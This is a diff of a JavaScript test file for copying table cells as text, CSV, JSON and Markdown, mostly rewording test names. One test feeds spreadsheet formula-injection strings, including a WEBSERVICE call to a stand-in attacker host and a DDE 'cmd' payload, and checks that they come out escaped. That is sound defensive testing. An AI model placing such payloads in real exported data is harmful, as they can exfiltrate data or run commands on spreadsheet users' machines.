@@ -14,12 +14,12 @@ const table = {
 };
 
 describe('copied cells', () => {
-  it('are lines of tabs, as a spreadsheet takes them', () => {
+  it('are tab-separated lines, as spreadsheets expect', () => {
     assert.equal(copied(table, 'text'), 'Ada\t"two\nlines"\t\n=1+1\t"a ""b"", c|d"\t<b>');
     assert.equal(copied({ labels: ['Note'], rows: [['say "hi"']] }, 'text'), 'say "hi"');
   });
 
-  it('are no formula for a spreadsheet that can do more than count', () => {
+  it('contain no formula that a spreadsheet would run', () => {
     const rows = [['=WEBSERVICE("https://evil.example/")', "=cmd|'/C calc'!A0", '@SUM(A1)', '-1+A1', "'=A1"]];
     assert.deepEqual(copied({ labels: [], rows }, 'text').split('\t'), [
       `"'=WEBSERVICE(""https://evil.example/"")"`,
@@ -34,19 +34,19 @@ describe('copied cells', () => {
     assert.equal(copied({ labels: [], rows: [['=A1']] }, 'text'), '=A1');
   });
 
-  it('are CSV that no spreadsheet runs', () => {
+  it('are CSV without spreadsheet formulas', () => {
     assert.equal(copied(table, 'csv'), 'Name,Note,Name\r\nAda,"two\nlines",\r\n\'=1+1,"a ""b"", c|d",<b>');
     assert.equal(copied({ labels: ['n'], rows: [['-5.2'], ['-cmd']] }, 'csv'), "n\r\n-5.2\r\n'-cmd");
   });
 
-  it('are JSON in which no column takes the place of another', () => {
+  it('are JSON in which no column overwrites another', () => {
     assert.deepEqual(JSON.parse(copied(table, 'json')), [
       { Name: 'Ada', Note: 'two\nlines', 'Name (2)': null },
       { Name: '=1+1', Note: 'a "b", c|d', 'Name (2)': '<b>' },
     ]);
   });
 
-  it('are a Markdown table whose cells stay in their place', () => {
+  it('are a Markdown table with aligned cells', () => {
     assert.equal(
       copied(table, 'markdown'),
       '| Name | Note | Name |\n| --- | --- | --- |\n| Ada | two<br>lines |  |\n| =1+1 | a "b", c\\|d | &lt;b> |',
@@ -67,8 +67,8 @@ describe('copied cells', () => {
   });
 });
 
-describe('choices that are copied', () => {
-  it('are what a person reads, in a text and in Markdown, and values for programs', async () => {
+describe('copied choices', () => {
+  it('are labels in text and Markdown, and values for programs', async () => {
     const formatter = new CellFormatter('en', { yes: 'Yes', no: 'No' });
     const options = [{ value: 'DE', text: 'Germany' }];
     formatter.learn({ country: { filter: 'choice', shown: { kind: 'text', options } } });
